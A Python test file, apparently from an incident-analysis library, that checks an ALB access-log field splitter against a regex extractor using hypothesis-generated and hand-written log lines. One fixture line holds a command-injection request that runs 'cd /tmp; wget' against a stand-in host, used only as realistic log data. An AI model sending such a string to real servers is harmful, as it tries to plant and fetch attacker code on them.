"""``split_fields`` (the S3 formats' field splitter) gives exactly what the one-regex ``extract`` gives.

The ALB parser reads its 30 fields by splitting each line's bytes instead of one RE2 match with a
group per field (the slow part of a batch). Whatever a line holds - quotes in odd places, a
backslash, a URL with spaces, a shorter older line, extra newer fields, multibyte text, empty
lines, nulls - every field must come out as the regex would have given it.
"""

from __future__ import annotations

import pyarrow as pa
from hypothesis import given, settings
from hypothesis import strategies as st

from incidentkit.parse.formats import alb_access
from incidentkit.parse.formats._common import BARE, QUOTED, extract, fields_regex, split_fields
from incidentkit.parse.arrow import STR

SMALL = [("a", BARE), ("b", QUOTED), ("c", BARE), ("d", QUOTED), ("e", BARE)]
#: What a field's text may be made of: the characters that matter to the split, and some that do not.
PIECES = ["a", "b", "-", '"', " ", "\\", "é", "1", ":", '"x y"', "", "\t", "日本"]

bare = st.text(alphabet=st.sampled_from(["a", "-", "1", ":", "é", "/"]), max_size=5)
quoted = st.text(alphabet=st.sampled_from(["a", " ", "-", "é", "b", "/"]), max_size=6).map(lambda t: f'"{t}"')
noise = st.lists(st.sampled_from(PIECES), max_size=6).map("".join)


@st.composite
def alb_like_line(draw: st.DrawFn) -> str:
    """A line shaped like an ALB entry (0-33 fields of the right kinds), sometimes with a field of the wrong kind."""
    count = draw(st.integers(0, 33))
    fields = []
    for i in range(count):
        kind = alb_access._SPEC[i][1] if i < len(alb_access._SPEC) else draw(st.sampled_from([BARE, QUOTED]))
        fields.append(draw(st.one_of(noise, bare if kind == BARE else quoted) if draw(st.integers(0, 30)) == 0
                           else (bare if kind == BARE else quoted)))
    return " ".join(fields) + draw(st.sampled_from(["", "", " ", ' "tail x"']))


def _same(lines: list[str | None], spec: list[tuple[str, str]], optional_from: int | None, *, slice_from: int = 0) -> None:
    rx = fields_regex(spec, optional_from=optional_from)
    arr = pa.array(lines, type=STR)[slice_from:]
    assert split_fields(arr, spec, rx, optional_from=optional_from).to_pylist() == extract(arr, rx).to_pylist()


@settings(max_examples=300, deadline=None)
@given(st.lists(st.one_of(alb_like_line(), st.none()), min_size=1, max_size=12), st.integers(0, 1))
def test_alb_fields_by_splitting_are_the_regexs(lines: list[str | None], slice_from: int) -> None:
    _same(lines, alb_access._SPEC, alb_access.OPTIONAL_FROM, slice_from=min(slice_from, len(lines) - 1))


@settings(max_examples=300, deadline=None)
@given(st.lists(noise, min_size=1, max_size=8), st.sampled_from([None, 0, 1, 2, 3, 4]))
def test_any_text_by_splitting_is_the_regexs(lines: list[str], optional_from: int | None) -> None:
    _same(lines, SMALL, optional_from)


def test_real_shapes_take_the_split_and_odd_ones_the_regex() -> None:
    url_with_space = ('http 2022-05-12T06:41:29.051646Z app/x/1 192.0.2.20:41542 - -1 -1 -1 301 - 233 390 '
                      '"GET http://127.0.0.1:80/shell?cd+/tmp;wget+ a.example/x HTTP/1.1" "Hello, world" - - - '
                      '"Root=1-627cac19-4c6df30820daa80e3fd72ced" "-" "-" 0 2022-05-12T06:41:29.051000Z "redirect" '
                      '"https://127.0.0.1:443/shell" "-" "-" "-" "Acceptable" "SpaceInUri"')
    escaped = url_with_space.replace('"Hello, world"', '"say \\"hi\\""')
    ends_in_backslash = url_with_space.replace('"Hello, world"', '"a\\"')  # its quote is escaped: no field ends there
    older = " ".join(url_with_space.split(" ")[:22])  # ends after the trace id's quoted field would: no SNI fields yet
    lines = [url_with_space, escaped, older, "", "not an ALB line", url_with_space + ' TID_1 "host" "/uri" "-"', ends_in_backslash]
    _same(lines, alb_access._SPEC, alb_access.OPTIONAL_FROM)
    got = split_fields(pa.array(lines, type=STR), alb_access._SPEC, alb_access.PATTERN, optional_from=alb_access.OPTIONAL_FROM)
    assert got.field("request")[0].as_py() == "GET http://127.0.0.1:80/shell?cd+/tmp;wget+ a.example/x HTTP/1.1"
    assert got.field("ua")[1].as_py() == 'say \\"hi\\"' and got.field("conn")[5].as_py() == "TID_1"
    assert not got[6].is_valid  # the regex finds no user agent that ends: not an ALB line
